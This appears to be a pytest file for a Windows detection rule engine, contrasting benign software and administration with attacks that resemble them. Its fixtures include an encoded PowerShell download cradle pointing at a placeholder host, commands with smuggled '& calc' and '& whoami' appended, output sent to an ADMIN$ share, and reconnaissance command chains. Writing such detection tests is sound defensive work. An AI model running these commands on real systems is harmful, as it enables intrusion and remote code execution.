"""Everyday software, administration and products beside the attacks that look like them."""

import base64

import pytest

from incidents import (
    EVIL,
    INSTALLED,
    POWERSHELL,
    RUN_KEY,
    SYSTEM32,
    access,
    call,
    event,
    found,
    inject,
    launch,
    logon,
    setting,
    task,
    write,
)
from verifier.rules.kit import program_folder

LOCAL = "C:\\Users\\ana\\AppData\\Local\\"
CHAT = LOCAL + "Programs\\chat\\Chat.exe"
DRIVE = LOCAL + "Microsoft\\CloudDrive\\CloudDrive.exe"
TALK = LOCAL + "Talk\\Update.exe"
AGENT = "C:\\Program Files\\Agent\\agentd.exe"
ENDPOINT = "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Platform\\1.0\\Sense.exe"
CMD = SYSTEM32 + "cmd.exe"
WINRS = SYSTEM32 + "winrshost.exe"
CLASS_KEY = "HKU\\S-1-5-21-1_Classes\\CLSID\\{00000000-0000-0000-0000-000000000001}\\LocalServer32"


def names(*rows):
    """The rules that find something in some rows, each with the strength."""
    return [" ".join(line.split()[:2]) for line in found(*rows)]


# ---------------------------------------------------------------- software that is installed for one user
@pytest.mark.parametrize(
    ("path", "folder"),
    [
        (CHAT, "local\\programs\\chat"),
        (DRIVE, "local\\microsoft\\clouddrive"),
        (TALK, "local\\talk"),
        ("%LOCALAPPDATA%\\Talk\\Update.exe", "local\\talk"),
        ("%AppData%\\Meet\\bin\\Meet.exe", "roaming\\meet"),
        (LOCAL + "Chat.exe", ""),
        (LOCAL + "Temp\\chat\\Chat.exe", ""),
        (LOCAL + "Microsoft\\Windows\\x\\Chat.exe", ""),
        (LOCAL + "Programs\\Chat.exe", ""),
        (LOCAL + "Talk\\..\\Temp\\x.exe", ""),
        ("C:\\Users\\ana\\AppData\\Roaming\\Chat.exe", ""),
        ("C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\x\\Chat.exe", ""),
        ("C:\\Users\\ana\\Downloads\\chat\\Chat.exe", ""),
        ("C:\\Users\\Public\\AppData\\Local\\Talk\\Chat.exe", ""),
        (INSTALLED, ""),
    ],
)
def test_where_a_program_for_one_user_lies(path, folder):
    assert program_folder(path) == folder


@pytest.mark.parametrize(
    ("value", "program", "expected"),
    [
        (f'"{CHAT}" --quiet', CHAT, []),
        (f'{TALK} --processStart "Talk.exe"', LOCAL + "Talk\\app-2\\Talk.exe", []),
        (f'C:\\Windows\\system32\\cmd.exe /q /c rmdir /s /q "{LOCAL}Talk\\app-1"', TALK, []),
        (f'C:\\Windows\\system32\\cmd.exe /q /c rmdir /s /q "{LOCAL}Talk\\app-1" & calc', TALK, ["autorun-entry confirmed"]),
        (f'C:\\Windows\\system32\\cmd.exe /q /c start "{LOCAL}Talk\\app-1"', TALK, ["autorun-entry confirmed"]),
        (EVIL, TALK, ["autorun-entry confirmed"]),
        (CHAT, LOCAL + "Talk\\Talk.exe", ["autorun-entry confirmed"]),
        (EVIL, EVIL, ["autorun-entry confirmed"]),
        (LOCAL + "Chat.exe", LOCAL + "Chat.exe", ["autorun-entry confirmed"]),
        (f"powershell -f {LOCAL}Talk\\x.ps1", TALK, ["autorun-entry confirmed"]),
        (CHAT, LOCAL + "Temp\\x\\chat-setup.exe", ["autorun-entry suspicious"]),
        (EVIL, LOCAL + "Temp\\x\\chat-setup.exe", ["autorun-entry confirmed"]),
        (CHAT, SYSTEM32 + "reg.exe", ["autorun-entry suspicious"]),
    ],
)  # fmt: skip
def test_a_program_that_starts_itself_at_sign_in(value, program, expected):
    assert names(setting(0, value, program=program)) == expected


@pytest.mark.parametrize(
    ("parent", "expected"), [(CHAT, []), (CMD, ["autorun-entry suspicious", "autostart-value suspicious"])]
)
def test_a_program_that_starts_itself_at_sign_in_by_a_command(parent, expected):
    key = RUN_KEY.replace("HKU\\S-1", "HKCU")
    command = f'reg.exe add {key.rpartition(chr(92))[0]} /v Updater /d "{CHAT}" /f'

    assert names(launch(0, SYSTEM32 + "reg.exe", command, parent=parent), setting(0, CHAT)) == expected


@pytest.mark.parametrize(
    ("value", "program", "expected"),
    [
        (LOCAL + "Microsoft\\CloudDrive\\2\\Helper.exe", DRIVE, []),
        (LOCAL + "Programs\\chat\\x.dll", SYSTEM32 + "regsvr32.exe", []),
        (LOCAL + "Programs\\chat\\x.dll", DRIVE, ["class-hijack confirmed"]),
        (LOCAL + "Temp\\x.dll", DRIVE, ["class-hijack confirmed"]),
    ],
)
def test_a_program_that_registers_a_class_of_its_own(value, program, expected):
    assert names(setting(0, value, CLASS_KEY, program)) == expected


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (task(0, "%localappdata%\\Microsoft\\CloudDrive\\Updater.exe", "update"), []),
        (task(0, "%localappdata%\\Microsoft\\CloudDrive\\Updater.exe"), ["task-runs-foreign-program suspicious"]),
        (task(0, TALK, "update", run_as="S-1-5-18"), ["task-runs-foreign-program suspicious"]),
        (task(0, TALK, "update", run_as="NT AUTHORITY\\SYSTEM"), ["task-runs-foreign-program suspicious"]),
        (task(0, EVIL, "update"), ["task-runs-foreign-program suspicious"]),
        (task(0, LOCAL + "Talk\\powershell.exe", "update"), ["task-runs-foreign-program suspicious", "task-command suspicious"]),
    ],
)  # fmt: skip
def test_an_updater_that_keeps_its_task(row, expected):
    assert names(row) == expected


@pytest.mark.parametrize(
    ("writer", "expected"),
    [(TALK, []), (DRIVE, ["dropped-program-runs confirmed"]), (EVIL, ["dropped-program-runs confirmed"])],
)
def test_an_updater_that_writes_and_starts_its_next_version(writer, expected):
    path = LOCAL + "Talk\\app-3\\Talk.exe"

    assert names(write(0, path, writer), launch(9, path, parent=TALK), call(20, path)) == expected


@pytest.mark.parametrize(
    ("writer", "parent", "strength"),
    [
        ("app-setup.exe", "app-setup.exe", "suspicious"),
        ("app-setup.exe", "other.exe", "confirmed"),
        ("app.exe", "app.exe", "confirmed"),
    ],
)
def test_a_package_that_unpacks_and_starts_its_installer(writer, parent, strength):
    folder, path = "C:\\Users\\ana\\Downloads\\", LOCAL + "Temp\\is-1.tmp\\app.tmp"
    rows = (write(0, path, folder + writer), launch(9, path, parent=folder + parent), call(20, path))

    assert f"dropped-program-runs {strength}" in names(*rows)


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (inject(0, TALK, LOCAL + "Talk\\app-3\\Talk.exe"), []),
        (inject(0, TALK, CHAT), ["code-injection confirmed"]),
        (access(0, TALK, "0x1fffff", LOCAL + "Talk\\app-3\\Talk.exe", call_trace="UNKNOWN(1)"), []),
        (access(0, TALK, "0x1fffff", CHAT, call_trace="UNKNOWN(1)"), ["unbacked-code confirmed"]),
    ],
)
def test_a_program_that_opens_its_own(row, expected):
    assert names(row) == expected


@pytest.mark.parametrize(
    ("link", "strength"), [("chat.lnk", "suspicious"), ("mail.lnk", "confirmed"), ("chat.exe", "confirmed")]
)
def test_a_program_that_links_itself_in_the_start_menu(link, strength):
    folder = "C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"

    assert names(write(0, folder + link, CHAT)) == [f"startup-folder {strength}"]


# ---------------------------------------------------------------- administration and products
LOOKS = (
    ("whoami.exe", "/all"),
    ("net.exe", "localgroup administrators"),
    ("ipconfig.exe", "/all"),
    ("systeminfo.exe", ""),
    ("tasklist.exe", "/v"),
)


def looks(parent, user):
    return [
        launch(number, SYSTEM32 + name, f"{name} {rest}", parent=parent, user=user)
        for number, (name, rest) in enumerate(LOOKS)
    ]


SEEN = ["admin-discovery suspicious", "looking-around suspicious"]


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        (looks(ENDPOINT, "NT AUTHORITY\\SYSTEM"), []),
        (looks(AGENT, "SYSTEM"), []),
        (looks(AGENT, "WKS-01$"), []),
        (looks("C:\\Windows\\CCM\\CcmExec.exe", "SYSTEM"), []),
        ([launch(0, CMD, parent=AGENT, user="SYSTEM"), *looks(CMD, "SYSTEM")], []),
        (looks(AGENT, "ana"), SEEN),
        (looks(CMD, "SYSTEM"), SEEN),
        (looks(SYSTEM32 + "svchost.exe", "SYSTEM"), SEEN),
        (looks("C:\\Program Files\\PowerShell\\7\\pwsh.exe", "SYSTEM"), SEEN),
        (looks("C:\\Program Files\\Apache\\httpd.exe", "SYSTEM"), SEEN),
        (looks("C:\\ProgramData\\Microsoft\\x\\Sense.exe", "SYSTEM"), SEEN),
    ],
)
def test_an_agent_that_takes_stock(rows, expected):
    assert names(*rows) == expected


def encoded(text):
    return f"PowerShell -NonInteractive -EncodedCommand {base64.b64encode(text.encode('utf-16-le')).decode()}"


HARMLESS = encoded('$data = $input | Out-String; $parts = $data.Split("`n"); & ([ScriptBlock]::Create($parts[0]))')
FETCHING = encoded("(New-Object Net.WebClient).DownloadString('http://x/y')")
BOTH = ["download-cradle suspicious", "remote-command confirmed"]


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        ([launch(1, POWERSHELL, HARMLESS, parent=WINRS)], []),
        ([launch(1, CMD, f"cmd /c {HARMLESS}", parent=WINRS), launch(2, POWERSHELL, HARMLESS, parent=CMD)], []),
        ([launch(1, POWERSHELL, HARMLESS, parent=SYSTEM32 + "wsmprovhost.exe")], BOTH),
        ([launch(1, POWERSHELL, HARMLESS, parent=CMD)], BOTH[:1]),
        ([launch(1, POWERSHELL, FETCHING, parent=WINRS)], [BOTH[0], "encoded-stager confirmed", BOTH[1]]),
        ([launch(1, POWERSHELL, encoded("whoami /all").ljust(2040), parent=WINRS)], BOTH),
        ([launch(1, POWERSHELL, "powershell -enc " + "QUJD" * 20, parent=WINRS)], BOTH),
        ([launch(1, CMD, "cmd /c whoami", parent=WINRS)], BOTH[1:]),
    ],
)
def test_automation_over_winrm(rows, expected):
    assert names(logon(0, "success", src="10.20.1.12"), *rows) == expected


@pytest.mark.parametrize(
    ("name", "user", "strength"),
    [("ana", "ana", "confirmed"), ("ben", "ana", "suspicious"), ("ben", "WKS-01$", "confirmed")],
)
def test_a_remote_command_needs_the_logon_of_its_own_account(name, user, strength):
    rows = (
        logon(0, "success", name, "10.20.1.12"),
        launch(1, CMD, "cmd /c dir", parent=SYSTEM32 + "wbem\\WmiPrvSE.exe", user=user),
    )

    assert names(*rows) == [f"remote-command {strength}"]


@pytest.mark.parametrize(
    ("path", "command", "parent", "expected"),
    [
        (CMD, "cmd /c dir", "wbem\\WmiPrvSE.exe", []),
        (CMD, "cmd /c dir 1> \\\\127.0.0.1\\ADMIN$\\x 2>&1", "wbem\\WmiPrvSE.exe", ["remote-command confirmed", "output-to-share confirmed"]),
        (EVIL, EVIL, "wbem\\WmiPrvSE.exe", ["remote-command suspicious"]),
        (CMD, "cmd /c dir", "wsmprovhost.exe", ["remote-command suspicious"]),
    ],
)  # fmt: skip
def test_what_wmi_starts_as_system_comes_from_the_host_itself(path, command, parent, expected):
    assert names(launch(0, path, command, parent=SYSTEM32 + parent, user="NT AUTHORITY\\SYSTEM")) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('cmd.exe /s /c ""C:\\Program Files\\Print\\topdf.exe" a.html b.pdf"', []),
        ("cmd.exe /c D:\\app\\topdf.exe a.html", []),
        ('cmd.exe /s /c "D:/app/topdf.exe a.html 2>&1"', []),
        ('cmd.exe /s /c "D:/site/wwwroot/topdf.exe a.html 2>&1"', ["application-spawns-shell suspicious"]),
        ("cmd.exe /c D:\\app\\topdf.exe a.html & whoami", ["application-spawns-shell suspicious"]),
        ("cmd.exe /c D:\\site\\wwwroot\\topdf.exe a.html", ["application-spawns-shell suspicious"]),
        ("cmd.exe /c C:\\Windows\\System32\\whoami.exe", ["application-spawns-shell suspicious"]),
        ("cmd.exe /c D:\\app\\powershell.exe a", ["application-spawns-shell suspicious"]),
        ("cmd.exe /c whoami", ["application-spawns-shell suspicious"]),
        (f"cmd.exe /c {EVIL}", ["application-spawns-shell suspicious"]),
    ],
)
def test_a_web_application_that_starts_a_program(command, expected):
    assert names(launch(0, CMD, command, parent="C:\\php\\php-cgi.exe", user="SYSTEM")) == expected


@pytest.mark.parametrize(("target", "expected"), [("csrss.exe", []), ("lsass.exe", ["installed-injector confirmed"])])
def test_a_thread_for_a_console_event(target, expected):
    assert names(inject(0, INSTALLED, SYSTEM32 + target, start_module="0x7ffe12")) == expected


@pytest.mark.parametrize(
    ("command", "parent", "expected"),
    [
        ("attrib +R +H +S *.cui", f"{CMD} /c C:\\Windows\\system32\\driver.bat", []),
        ("attrib +h +s C:\\x\\desktop.ini", CMD, []),
        ("attrib +h *.cui", f"{CMD} /c {LOCAL}x.bat", ["history-erased suspicious"]),
        ("attrib +h *.cui", CMD, ["history-erased suspicious"]),
    ],
)
def test_files_that_an_installed_script_hides(command, parent, expected):
    assert names(launch(0, SYSTEM32 + "attrib.exe", command, parent=CMD, parent_cmd_line=parent)) == expected


@pytest.mark.parametrize(
    ("target", "port", "strength"),
    [
        ("10.20.1.12", 4443, "confirmed"),
        ("10.20.1.12", 1023, "suspicious"),
        ("10.20.1.12", 8080, "suspicious"),
        ("10.20.1.11", 4443, "suspicious"),
        ("127.0.0.1", 4443, "suspicious"),
    ],
)
def test_a_launcher_that_calls_a_port_of_no_service(target, port, strength):
    program = SYSTEM32 + "mshta.exe"
    rows = (
        launch(0, program, f"mshta.exe {LOCAL}x.hta"),
        call(9, program, target, src_ip="10.20.1.11", dst_port=port),
    )

    assert f"launcher-runs-user-file {strength}" in names(*rows)


@pytest.mark.parametrize(
    ("program", "at", "strength"),
    [
        ("C:\\ProgramData\\Vendor\\cv.exe", 600, "confirmed"),
        ("C:\\ProgramData\\Vendor\\cv.exe", 601, "suspicious"),
        (INSTALLED, 600, "suspicious"),
    ],
)
def test_a_library_that_was_put_beside_its_program(program, at, strength):
    path = "C:\\ProgramData\\Vendor\\word.dll"
    load = event(at, "module_load", "dll", file_path=path, process_path=program, signature_state="unsigned")

    assert names(write(0, path), load) == [f"foreign-module {strength}"]


def test_a_tool_s_output_is_known_on_the_share_of_windows_itself():
    def opened(share, path):
        return event(0, "share", "access", share_name=f"\\\\*\\{share}", file_path=path, src_ip="10.20.1.12")

    assert names(opened("ADMIN$", "Temp\\aBcDeFgH.tmp")) == ["remote-control-pipe confirmed"]
    assert names(opened("ADMIN$", "Attemp\\aBcDeFgH.tmp")) == []


def test_five_names_that_do_not_exist_are_no_mistyping():
    def asked(name, status):
        return event(0, "kerberos", "tgt", host="DIR-01", user=None, user_name=name, status=status, src_ip="10.20.1.11")

    assert names(*(asked(f"u{n}", "0x6") for n in range(5))) == ["kerberos-guessing confirmed"]
    assert names(*(asked(f"u{n // 2}", "0x6") for n in range(5))) == ["kerberos-guessing suspicious"]
    assert names(*(asked(f"u{n}", "0x18") for n in range(5))) == ["kerberos-guessing suspicious"]


@pytest.mark.parametrize(
    ("writer", "path", "is_found"),
    [
        ("winword.exe", "C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Word\\STARTUP\\norm.dotm", False),
        ("excel.exe", "C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Excel\\XLSTART\\book.xlam", False),
        (
            "winword.exe",
            "C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs",
            True,
        ),
        ("msiexec.exe", "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk", False),
    ],
)
def test_office_may_write_what_it_loads_itself_and_nothing_into_a_start_menu(writer, path, is_found):
    findings = found(write(0, path, f"C:\\Program Files\\Office\\{writer}"))
    assert [text.split()[0] for text in findings] == ["startup-folder"] * is_found
